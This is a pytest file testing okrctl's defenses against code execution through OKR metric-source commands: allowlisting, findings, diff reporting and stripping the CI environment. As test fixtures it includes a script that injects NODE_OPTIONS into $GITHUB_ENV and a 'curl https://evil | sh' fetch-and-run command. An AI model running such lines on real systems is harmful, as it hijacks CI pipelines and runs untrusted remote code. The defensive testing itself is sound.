"""A metric source's `command` is code that `okrctl sync` runs. A unit's lead, who alone reviews
the unit's OKR files, cannot add one: only commands okrctl.yaml (reviewed by the root) lists
run; `check` reports any other, `diff` shows every change to a source, a script kept under okrs/
is a finding, and a command runs without the job's environment (no GITHUB_ENV to write to)."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest

from tests.findings import where
from tests.gitops.conftest import Repo, make_repo
from tests.lifecycle.conftest import FIXTURE

LEADS = "okrs/2026-Q4/sales/leads-q4.yaml"
SALES = "okrs/2026-Q4/sales/more-deals-q4.yaml"


def _with_command(root: Path, command: list[str]) -> None:
    path = root / LEADS
    path.write_text(
        path.read_text().replace(
            "    target: 10\n    checkins: []",
            f"    target: 10\n    source:\n      command: {json.dumps(command)}\n    checkins: []",
        )
    )


@pytest.fixture
def small(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    import shutil

    root = tmp_path / "repo"
    shutil.copytree(FIXTURE, root)
    monkeypatch.chdir(root)
    monkeypatch.delenv("GITHUB_ACTIONS", raising=False)
    return root


def _allow(root: Path, command: list[str]) -> None:
    config = root / "okrctl.yaml"
    config.write_text(config.read_text() + f"sources:\n  commands:\n    - {json.dumps(command)}\n")


def test_an_unlisted_command_is_a_finding_and_never_runs(small, okrctl, tmp_path):
    marker = tmp_path / "ran"
    command = [sys.executable, "-c", f"open({str(marker)!r}, 'w'); print(12)"]
    _with_command(small, command)
    checked = okrctl("check", "--no-cache", "--format", "text", "--today", "2026-11-20")
    assert checked.code == 1
    assert f"{LEADS}:43:16: error OKR814 the command" in checked.out
    synced = okrctl("sync", "--date", "2026-11-20", "--format", "text")
    assert synced.code == 1
    assert f"{LEADS}:43:16: error OKR814" in synced.out
    assert not marker.exists()
    _allow(small, command)
    assert okrctl("check", "--no-cache", "--today", "2026-11-20").code == 0
    synced = okrctl("sync", "--date", "2026-11-20", "--format", "text")
    assert synced.code == 0, synced.out
    assert marker.exists()
    assert f"{LEADS}: demo-calls 20 days -> 12 days" in synced.out


def test_a_listed_command_does_not_cover_another(small, okrctl):
    _allow(small, ["python3", "metrics/leads.py"])
    _with_command(small, ["python3", "metrics/leads.py", "--evil"])
    checked = okrctl("check", "--no-cache", "--format", "text", "--today", "2026-11-20")
    assert "OKR814" in checked.out


def test_okrctl_yaml_may_not_list_a_script_under_okrs(small, okrctl):
    _allow(small, ["python3", "okrs/2026-Q4/sales/leads.py"])
    checked = okrctl("check", "--no-cache")
    assert checked.code == 2
    assert "okrctl.yaml:" in checked.err and "lies in okrs/" in checked.err


def test_a_script_under_okrs_is_a_finding(small, okrctl):
    (small / "okrs/2026-Q4/sales/leads.py").write_text("print(1)\n")
    checked = okrctl("check", "--no-cache", "--format", "text", "--today", "2026-11-20")
    assert checked.code == 1
    assert ("okrs/2026-Q4/sales/leads.py", 1, 1, "OKR115") in where(checked.out)


def test_a_command_runs_without_the_jobs_environment(small, okrctl, monkeypatch, tmp_path):
    """What the attack of the issue did: write NODE_OPTIONS into $GITHUB_ENV for later steps."""
    github_env = tmp_path / "github_env"
    github_env.write_text("")
    monkeypatch.setenv("GITHUB_ENV", str(github_env))
    monkeypatch.setenv("GITHUB_TOKEN", "ghs_secret")
    monkeypatch.setenv("ACTIONS_RUNTIME_TOKEN", "secret")
    script = (
        "import os\n"
        "path = os.environ.get('GITHUB_ENV')\n"
        "if path: open(path, 'a').write('NODE_OPTIONS=--require=/tmp/evil.js\\n')\n"
        "print(len([k for k in os.environ if 'GITHUB' in k or 'TOKEN' in k or 'ACTIONS' in k]))\n"
    )
    command = [sys.executable, "-c", script]
    _with_command(small, command)
    _allow(small, command)
    synced = okrctl("sync", "--date", "2026-11-20", "--format", "text")
    assert synced.code == 0, synced.out
    assert f"{LEADS}: demo-calls 20 days -> 0 days" in synced.out  # it saw no such variable
    assert github_env.read_text() == ""


# --------------------------------------------------------------------------- diff


def test_diff_shows_every_change_to_a_source(tmp_path, monkeypatch, okrctl):
    repo: Repo = make_repo(tmp_path / "repo")
    monkeypatch.chdir(repo.path)
    repo.edit(
        SALES,
        "    current: 11\n",
        '    current: 11\n    source: {command: [sh, -c, "curl https://evil | sh"]}\n',
    )
    repo.commit("a source")
    result = okrctl("diff", "main", "--format", "markdown")
    assert result.code == 0, result.err
    assert "1 metric source changed" in result.out
    assert (
        "    - ⚠️ metric source: key result `deals` none → &quot;runs command \\[&quot;sh&quot;, "
        "&quot;\\-c&quot;, &quot;curl https://evil \\| sh&quot;\\], timeout 60 s&quot;\n"
    ) in result.out
    assert "| error | `OKR814` | `okrs/2026-Q4/sales/more-deals-q4.yaml:19:23` |" in result.out
    text = okrctl("diff", "main", "--format", "text").out
    assert 'metric source: key result deals none -> "runs command ["sh", "-c", "curl' in text


def test_a_suppression_comment_cannot_hide_an_unlisted_command(small, okrctl):
    """OKR814 is known to the catalogue (no "unknown rule") but no comment silences it: the
    file's author cannot hide from the root lead's review that the file asks for code to run;
    sync still refuses to run the command."""
    _with_command(small, ["python3", "metrics/leads.py"])
    path = small / LEADS
    path.write_text(path.read_text() + "# okrctl: disable-file=OKR814 reviewed by the root lead\n")
    checked = okrctl("check", "--no-cache", "--format", "json", "--today", "2026-11-20")
    found = {d["code"] for d in json.loads(checked.out)["findings"]}
    assert "OKR814" in found, checked.out
    assert checked.code == 1
    synced = okrctl("sync", "--date", "2026-11-20", "--format", "text")
    assert f"{LEADS}:43:16: error OKR814" in synced.out
